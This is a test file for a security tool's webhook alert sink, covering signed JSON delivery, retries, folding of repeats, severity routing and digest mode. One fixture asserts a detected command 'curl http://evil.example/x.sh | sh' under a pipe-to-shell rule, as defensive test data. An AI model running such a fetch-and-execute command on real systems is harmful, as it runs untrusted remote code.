import { createHmac } from 'node:crypto';
import t from 'tap';
import { webhookFactory } from '../../src/alerts/webhook-sink.js';
import { counter, openSink, until } from '../helpers/alert-sinks.js';
import { commandEvent, detectionOf } from '../helpers/detections.js';
import { HttpReceiver, type ReceivedRequest } from '../helpers/http-receiver.js';

const verified = (request: ReceivedRequest, secret: string) => {
  const timestamp = String(request.headers['x-vigil-timestamp']);
  const expected = `sha256=${createHmac('sha256', secret).update(`${timestamp}.${request.body.toString()}`).digest('hex')}`;
  return request.headers['x-vigil-signature'] === expected;
};

t.test('each alert is POSTed as signed JSON; a 500 and a 429 are retried until it arrives once', async (t) => {
  const receiver = await HttpReceiver.start();
  const { sinks, metrics } = await openSink(webhookFactory, { endpoint: `${receiver.url}/hook`, secret: 'k3y' });
  t.teardown(async () => { await sinks.close(); await receiver.close(); });
  receiver.plan({ status: 500 }, { status: 429, headers: { 'retry-after': '0' } });
  const event = commandEvent();
  sinks.write([detectionOf(event)], [event]);
  await until(() => receiver.accepted.length === 1, 'the alert');
  t.equal(receiver.requests.length, 3, 'two failures, then delivered');
  const [request] = receiver.accepted;
  t.equal(request.url, '/hook');
  t.ok(verified(request, 'k3y'), 'the HMAC-SHA256 signature checks out');
  t.notOk(verified(request, 'wrong'), 'and only with the secret');
  const body = JSON.parse(request.body.toString()) as Record<string, any>;
  t.equal(body.action, 'trigger');
  t.equal(body.count, 1);
  t.equal(body.key, 'pipe-to-shell|session.id=sess-42');
  t.equal(body.context.command, 'curl http://evil.example/x.sh | sh');
  t.equal(body.context.traceId, event.traceId);
  t.equal(body.detection.ruleId, 'pipe-to-shell');
  t.ok(receiver.requests.slice(0, 2).every((r) => r.body.equals(request.body)), 'the retries carried the same alert');
  t.equal(await counter(metrics, 'vigil_exporter_sent_items_total', { exporter: 'alerts/webhook/test' }), 1);
  t.equal(await counter(metrics, 'vigil_exporter_failed_requests_total', { exporter: 'alerts/webhook/test', reason: 'http_500' }), 1);
});

t.test('repeats fold into one alert with a count; routing keeps low severities out', async (t) => {
  const receiver = await HttpReceiver.start();
  const { sinks, clock } = await openSink(webhookFactory, { endpoint: receiver.url, route: { min_severity: 'medium' }, throttle: { window: '1m' } });
  t.teardown(async () => { await sinks.close(); await receiver.close(); });
  const event = commandEvent();
  for (let i = 0; i < 5; i++) sinks.write([detectionOf(event)], [event]);
  sinks.write([detectionOf(event, 'noisy', { severity: 'low' })], [event]);
  await until(() => receiver.accepted.length === 1, 'the first alert');
  clock.now += 60_000;
  sinks.tick();
  await until(() => receiver.accepted.length === 2, 'the folded repeats');
  const bodies = receiver.accepted.map((r) => JSON.parse(r.body.toString()) as { count: number; detection: { ruleId: string } });
  t.same(bodies.map((b) => [b.detection.ruleId, b.count]), [['pipe-to-shell', 1], ['pipe-to-shell', 4]]);
});

t.test('digest mode: the alerts of an interval arrive as one request', async (t) => {
  const receiver = await HttpReceiver.start();
  const { sinks, clock } = await openSink(webhookFactory, { endpoint: receiver.url, digest: { enabled: true, interval: '5m' } });
  t.teardown(async () => { await sinks.close(); await receiver.close(); });
  const event = commandEvent();
  sinks.write([detectionOf(event, 'a'), detectionOf(event, 'b')], [event]);
  sinks.write([detectionOf(event, 'c')], [event]);
  sinks.tick();
  await new Promise((resolve) => setTimeout(resolve, 100));
  t.equal(receiver.requests.length, 0, 'nothing before the interval ends');
  clock.now += 5 * 60_000;
  sinks.tick();
  await until(() => receiver.accepted.length === 1, 'the digest');
  const body = JSON.parse(receiver.accepted[0].body.toString()) as { alerts: { detection: { ruleId: string } }[] };
  t.same(body.alerts.map((a) => a.detection.ruleId), ['a', 'b', 'c']);
});
